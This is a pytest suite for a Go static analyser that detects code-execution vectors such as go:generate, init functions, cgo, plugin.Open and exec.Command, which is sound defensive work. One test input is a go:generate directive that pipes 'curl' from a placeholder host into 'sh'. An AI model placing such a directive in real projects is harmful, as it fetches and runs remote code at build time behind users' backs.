import json

import pytest

from goscout.gosyntax import parse_go_source
from goscout.model import SourceFile, discover_packages
from goscout.vectors import (
    EXEC_CALLEES,
    INVOCATION_VECTORS,
    TAXONOMY,
    VECTOR_BY_ID,
    VECTOR_IDS,
    analyze_asm_calls,
    analyze_cgo,
    analyze_constructors,
    analyze_exec,
    analyze_global_vars,
    analyze_go_generate,
    analyze_init_funcs,
    analyze_interface_calls,
    analyze_module,
    analyze_plugin,
    analyze_reflect,
    analyze_test_functions,
    analyze_unsafe,
    collect_asm_functions,
    collect_polymorphic_methods,
)

from conftest import FIXTURES, VECTOR_FIXTURE_DIRS, text_oracle_counts


def sf(src: str, path: str = "x.go") -> SourceFile:
    tree = parse_go_source(src)
    return SourceFile(path, tree, True, None, len(src.splitlines()))


def test_taxonomy_is_fixed():
    assert len(TAXONOMY) == 12
    phases = {v.id: v.phase for v in TAXONOMY}
    assert phases["P1"] == phases["P2"] == "pre_build"
    assert phases["I1"] == phases["I2"] == "initialization"
    assert all(phases[f"E{i}"] == "execution" for i in range(1, 9))
    assert VECTOR_IDS == ("P1", "P2", "I1", "I2", "E1", "E2", "E3", "E4", "E5", "E6", "E7", "E8")


# P1 --------------------------------------------------------------------------


def test_p1_remote_fetch_directive():
    f = sf('package m\n\n//go:generate sh -c "curl https://cdn.example/x.sh | sh"\n')
    (occ,) = analyze_go_generate(f, "m")
    assert occ.detail == '//go:generate sh -c "curl https://cdn.example/x.sh | sh"'
    assert (occ.line, occ.column) == (3, 1)


def test_p1_space_variant_is_not_a_directive():
    f = sf("package m\n\n// go:generate cmd\n")
    assert analyze_go_generate(f, "m") == []


def test_p1_three_directives_two_groups():
    src = (
        "package m\n\n"
        "//go:generate a\n"
        "//go:generate b\n\n"
        "func f() {}\n\n"
        "//go:generate c\n"
    )
    f = sf(src)
    occs = analyze_go_generate(f, "m")
    assert len(occs) == 3 == text_oracle_counts(src)["P1"]


def test_p1_detail_trimmed_to_200():
    f = sf("package m\n\n//go:generate " + "x" * 400 + "\n")
    (occ,) = analyze_go_generate(f, "m")
    assert len(occ.detail) == 200


# P2 --------------------------------------------------------------------------


def test_p2_canonical_test_function():
    f = sf(
        "package auth\n\nimport \"testing\"\n\nfunc TestLogin(t *testing.T) {}\n",
        path="auth_test.go",
    )
    (occ,) = analyze_test_functions(f, "auth")
    assert occ.detail == "TestLogin [test-file]"


def test_p2_prefix_rule_is_syntactic():
    f = sf("package m\n\nfunc Testify() {}\n", path="x.go")
    (occ,) = analyze_test_functions(f, "m")
    assert occ.detail == "Testify"


def test_p2_all_four_prefixes():
    src = (
        "package m\n\n"
        "func TestA() {}\n"
        "func BenchmarkB() {}\n"
        "func ExampleC() {}\n"
        "func FuzzD() {}\n"
        "func helper() {}\n"
    )
    assert len(analyze_test_functions(sf(src), "m")) == 4


# I1 --------------------------------------------------------------------------


def test_i1_listing_shape_regular_and_anonymous(gomodule):
    root = FIXTURES / "i1_globalvar"
    units = discover_packages(root)
    occs = [o for o in analyze_module(units) if o.vector == "I1"]
    assert [o.detail for o in occs] == ["defaultPath", "hostname"]


def test_i1_literal_initializer_runs_no_code():
    f = sf("package m\n\nvar x = 5\n")
    assert analyze_global_vars(f, "m") == []


def test_i1_one_occurrence_per_specification():
    f = sf("package m\n\nvar a, b = f(), g()\n\nfunc f() int { return 1 }\nfunc g() int { return 2 }\n")
    (occ,) = analyze_global_vars(f, "m")
    assert occ.detail == "a, b"


def test_i1_grouped_var_block():
    src = """package m

var (
	one   = load()
	two   = 7
	three = conv(two)
)

func load() int { return 0 }
func conv(x int) int { return x }
"""
    occs = analyze_global_vars(sf(src), "m")
    assert [o.detail for o in occs] == ["one", "three"]


# I2 --------------------------------------------------------------------------


def test_i2_single_init():
    f = sf("package m\n\nfunc init() {}\n")
    assert len(analyze_init_funcs(f, "m")) == 1


def test_i2_two_inits_one_file():
    src = "package m\n\nfunc init() {}\n\nfunc init() {}\n"
    assert len(analyze_init_funcs(sf(src), "m")) == 2 == text_oracle_counts(src)["I2"]


def test_i2_method_named_init_excluded():
    f = sf("package m\n\ntype S struct{}\n\nfunc (s S) init() {}\n")
    assert analyze_init_funcs(f, "m") == []


# E1 --------------------------------------------------------------------------


def test_e1_qualified_constructor():
    f = sf("package m\n\nfunc f() {\n\tc := pkg.NewClient()\n\t_ = c\n}\n")
    (occ,) = analyze_constructors(f, "m")
    assert occ.detail == "pkg.NewClient"


def test_e1_newton_rejected():
    f = sf("package m\n\nfunc f() {\n\tn := Newton(2)\n\t_ = n\n}\n")
    assert analyze_constructors(f, "m") == []


def test_e1_bare_new_accepted():
    f = sf("package m\n\nfunc f() {\n\tp := New()\n\t_ = p\n}\n")
    (occ,) = analyze_constructors(f, "m")
    assert occ.detail == "New"


@pytest.mark.parametrize(
    "callee,matches",
    [("New", True), ("NewClient", True), ("NewX", True), ("Newton", False), ("News", False), ("NEW", False), ("Renew", False)],
)
def test_e1_name_rule(callee, matches):
    f = sf(f"package m\n\nfunc f() {{\n\t{callee}()\n}}\n")
    assert bool(analyze_constructors(f, "m")) is matches


# E2 --------------------------------------------------------------------------


def test_e2_reflect_import_counts_once_per_spec():
    src = """package m

import (
	"fmt"
	"reflect"
)

func f() {
	fmt.Println(reflect.TypeOf(1))
}
"""
    occs = analyze_reflect(sf(src), "m")
    assert len(occs) == 1 and occs[0].detail == "import reflect"


def test_e2_lookalike_path_rejected():
    f = sf('package m\n\nimport "reflection-utils/reflect2"\n')
    assert analyze_reflect(f, "m") == []


def test_e2_two_files_count_module_wide(gomodule):
    root = gomodule(
        {
            "a.go": 'package m\n\nimport "reflect"\n\nvar _ = reflect.Bool\n',
            "b.go": 'package m\n\nimport "reflect"\n\nvar _ = reflect.Int\n',
        }
    )
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E2"]
    assert len(occs) == 2


# E3 + collector ---------------------------------------------------------------


def test_collect_polymorphic_methods_listing_shape():
    root = FIXTURES / "e3_interface"
    methods = collect_polymorphic_methods(discover_packages(root))
    assert methods == {"Execute": {"SafeType", "UnsafeType"}}


def test_collect_polymorphic_single_receiver_excluded(gomodule):
    root = gomodule({"a.go": "package m\n\ntype T struct{}\n\nfunc (t T) M() {}\n"})
    assert collect_polymorphic_methods(discover_packages(root)) == {}


def test_collect_polymorphic_pointer_and_value_same_base(gomodule):
    root = gomodule(
        {
            "a.go": "package m\n\ntype T struct{}\n\nfunc (t T) M() {}\n\nfunc (t *T) M() {}\n"
        }
    )
    assert collect_polymorphic_methods(discover_packages(root)) == {}


def test_e3_dispatch_site_counted():
    root = FIXTURES / "e3_interface"
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E3"]
    assert [o.detail for o in occs] == ["executor.Execute"]


def test_e3_package_qualified_calls_excluded():
    src = """package m

import "fmt"

type A struct{}
type B struct{}

func (a A) Println() {}
func (b B) Println() {}

func f() {
	fmt.Println("not dispatch")
}
"""
    f = sf(src)
    methods = {"Println": {"A", "B"}}
    assert analyze_interface_calls(f, "m", methods) == []


def test_e3_three_call_sites(gomodule):
    root = gomodule(
        {
            "m.go": """package m

type A struct{}
type B struct{}

func (a A) Work() {}
func (b B) Work() {}

func drive(x A, y B) {
	x.Work()
	y.Work()
	x.Work()
}
"""
        }
    )
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E3"]
    assert len(occs) == 3


# E4 --------------------------------------------------------------------------


def test_e4_fixture_conversions():
    root = FIXTURES / "e4_unsafe"
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E4"]
    assert [o.detail for o in occs] == ["Pointer", "Pointer", "Pointer", "Sizeof"]


def test_e4_no_unsafe_qualifier():
    f = sf("package m\n\nfunc f() {\n\tg(1)\n}\n")
    assert analyze_unsafe(f, "m") == []


# E5 --------------------------------------------------------------------------


def test_e5_cgo_call_counted():
    root = FIXTURES / "e5_cgo"
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E5"]
    assert [o.detail for o in occs] == ["C.hello"]


def test_e5_requires_c_import():
    f = sf("package m\n\nvar C runner\n\nfunc f() {\n\tC.Run()\n}\n")
    assert analyze_cgo(f, "m") == []


def test_e5_two_calls():
    src = 'package m\n\nimport "C"\n\nfunc f() {\n\tC.a()\n\tC.b()\n}\n'
    assert len(analyze_cgo(sf(src), "m")) == 2


# E6 + collector ---------------------------------------------------------------


def test_collect_asm_canonical_text_directive(tmp_path):
    (tmp_path / "add.s").write_text("TEXT ·Add(SB), NOSPLIT, $0-24\n\tRET\n")
    syms = collect_asm_functions(["add.s"], tmp_path)
    assert syms == {"Add": ("add.s", 1)}


def test_collect_asm_comment_line_ignored(tmp_path):
    (tmp_path / "c.s").write_text("// the TEXT directive is described here\n")
    assert collect_asm_functions(["c.s"], tmp_path) == {}


def test_collect_asm_two_directives(tmp_path):
    (tmp_path / "two.s").write_text(
        "TEXT ·Add(SB), $0-24\n\tRET\nTEXT ·Sub(SB), $0-24\n\tRET\n"
    )
    assert set(collect_asm_functions(["two.s"], tmp_path)) == {"Add", "Sub"}


def test_collect_asm_legacy_dot_and_package_prefix(tmp_path):
    (tmp_path / "p.s").write_text("TEXT runtime∙memmove(SB), $0\n")
    assert set(collect_asm_functions(["p.s"], tmp_path)) == {"memmove"}


def test_e6_same_package_call():
    root = FIXTURES / "e6_asm"
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E6"]
    assert [o.detail for o in occs] == ["Add (add.s)"]


def test_e6_cross_package_call_not_matched(gomodule):
    root = gomodule(
        {
            "asmpkg/add.go": "package asmpkg\n\nfunc Add(a, b int64) int64\n",
            "asmpkg/add.s": "TEXT ·Add(SB), $0-24\n\tRET\n",
            "caller/main.go": "package caller\n\nfunc f() {\n\tAdd(1, 2)\n}\n",
        }
    )
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E6"]
    assert occs == []


def test_e6_empty_asm_set():
    f = sf("package m\n\nfunc f() {\n\tAdd(1, 2)\n}\n")
    assert analyze_asm_calls(f, "m", {}) == []


# E7 --------------------------------------------------------------------------


def test_e7_plugin_open():
    f = sf('package m\n\nimport "plugin"\n\nfunc f() {\n\tplugin.Open("./module.so")\n}\n')
    (occ,) = analyze_plugin(f, "m")
    assert occ.detail == '"./module.so"'


def test_e7_lookup_alone_not_counted():
    f = sf('package m\n\nimport "plugin"\n\nfunc f(p *plugin.Plugin) {\n\tp.Lookup("X")\n}\n')
    assert analyze_plugin(f, "m") == []


def test_e7_absent():
    f = sf("package m\n\nfunc f() {}\n")
    assert analyze_plugin(f, "m") == []


# E8 --------------------------------------------------------------------------


def test_e8_wrapper_style_command():
    src = """package m

import "os/exec"

func run(name string, args ...string) ([]byte, error) {
	cmd := exec.Command(name, args...)
	return cmd.Output()
}
"""
    (occ,) = analyze_exec(sf(src), "m")
    assert occ.detail == "exec.Command"


def test_e8_alias_import_is_a_documented_miss():
    src = """package m

import myexec "os/exec"

func f() {
	myexec.Command("ls")
}
"""
    assert analyze_exec(sf(src), "m") == []


def test_e8_both_command_and_syscall():
    src = (
        "package m\n\n"
        'import (\n\t"os/exec"\n\t"syscall"\n)\n\n'
        "func f() {\n"
        '\texec.Command("ls")\n'
        '\tsyscall.Exec("/bin/true", nil, nil)\n'
        "}\n"
    )
    occs = analyze_exec(sf(src), "m")
    assert [o.detail for o in occs] == ["exec.Command", "syscall.Exec"]
    assert len(EXEC_CALLEES) == 5


# analyze_module --------------------------------------------------------------


def test_selected_filter_empty_result():
    root = FIXTURES / "e8_exec"
    occs = analyze_module(discover_packages(root), selected={"E7"})
    assert occs == []


def test_analyze_module_deterministic():
    root = FIXTURES / "e4_unsafe"
    units = discover_packages(root)
    assert analyze_module(units) == analyze_module(units)


def test_analyze_module_rejects_unknown_vector():
    with pytest.raises(ValueError, match="E9"):
        analyze_module([], selected={"E9"})


def test_empty_program_has_zero_occurrences(gomodule):
    root = gomodule({"main.go": "package main\n\nfunc main() {}\n"})
    assert analyze_module(discover_packages(root)) == []


def test_failed_files_contribute_nothing(gomodule):
    root = gomodule(
        {
            "ok.go": "package m\n\nfunc init() {}\n",
            "bad.go": "package m\nfunc init() {\n",
        }
    )
    occs = analyze_module(discover_packages(root))
    assert [o.file for o in occs] == ["ok.go"]


# Cross-cutting invariants ------------------------------------------------------


def _fixture_occurrences(root):
    return analyze_module(discover_packages(root))


def test_phase_mapping_invariant_on_fixtures():
    for d in VECTOR_FIXTURE_DIRS:
        for occ in _fixture_occurrences(d):
            vec = VECTOR_BY_ID[occ.vector]
            expected = {"P": "pre_build", "I": "initialization", "E": "execution"}
            assert vec.phase == expected[occ.vector[0]]


def test_invocation_details_are_nonempty_on_fixtures():
    for d in VECTOR_FIXTURE_DIRS:
        for occ in _fixture_occurrences(d):
            if occ.vector in INVOCATION_VECTORS:
                assert occ.detail


def test_location_validity_on_fixtures():
    # The matched symbol (leading token of the detail) must appear on the
    # reported line or an adjacent one.
    for d in VECTOR_FIXTURE_DIRS:
        for occ in _fixture_occurrences(d):
            if occ.vector not in INVOCATION_VECTORS:
                continue
            lines = (d / occ.file).read_text(encoding="utf-8").splitlines()
            window = "\n".join(lines[max(0, occ.line - 2) : occ.line + 1])
            symbol = occ.detail.split()[0]
            assert symbol in window, (d.name, occ)


def test_monotonic_analyzers_unchanged_by_new_file(gomodule, tmp_path):
    base_files = {
        "a.go": (
            "package m\n\n"
            "//go:generate echo hi\n"
            "var x = seed()\n\n"
            "func init() {}\n\n"
            "func TestLike() {}\n\n"
            "func seed() int { return 1 }\n"
        ),
        "b.go": 'package m\n\nimport "reflect"\n\nvar _ = reflect.Bool\n',
    }
    root = gomodule(base_files)
    stable = {"P1", "P2", "I1", "I2", "E2"}
    before = {o for o in analyze_module(discover_packages(root)) if o.vector in stable}
    (root / "c.go").write_text("package m\n\nfunc extra() {}\n")
    after = {o for o in analyze_module(discover_packages(root)) if o.vector in stable}
    assert before <= after
    assert {o for o in after if o.file != "c.go"} == before


def test_e3_may_gain_sites_when_file_added(gomodule):
    # Documented asymmetry: the polymorphic-method collector is module-scoped,
    # so a new file can turn an existing call site into a dispatch site.
    root = gomodule(
        {
            "a.go": (
                "package m\n\n"
                "type A struct{}\n\n"
                "func (a A) M() {}\n\n"
                "func use(a A) {\n\ta.M()\n}\n"
            )
        }
    )
    assert [o for o in analyze_module(discover_packages(root)) if o.vector == "E3"] == []
    (root / "b.go").write_text("package m\n\ntype B struct{}\n\nfunc (b B) M() {}\n")
    occs = [o for o in analyze_module(discover_packages(root)) if o.vector == "E3"]
    assert [o.file for o in occs] == ["a.go"]


def test_text_oracle_equivalence_on_all_fixtures():
    for d in VECTOR_FIXTURE_DIRS:
        occs = _fixture_occurrences(d)
        counts = {k: 0 for k in ("P1", "I2", "E7", "E8")}
        for o in occs:
            if o.vector in counts:
                counts[o.vector] += 1
        oracle = {"P1": 0, "I2": 0, "E7": 0, "E8": 0}
        for path in sorted(d.rglob("*.go")):
            for key, n in text_oracle_counts(path.read_text(encoding="utf-8")).items():
                oracle[key] += n
        assert counts == oracle, d.name


def test_fixture_annotations_match_exactly():
    for d in VECTOR_FIXTURE_DIRS:
        expected = json.loads((d / "expected.json").read_text())["occurrences"]
        actual = [
            {
                "vector": o.vector,
                "package": o.package_name,
                "file": o.file,
                "line": o.line,
                "column": o.column,
                "detail": o.detail,
            }
            for o in _fixture_occurrences(d)
        ]
        key = lambda o: (o["vector"], o["file"], o["line"], o["column"])
        assert sorted(actual, key=key) == sorted(expected, key=key), d.name
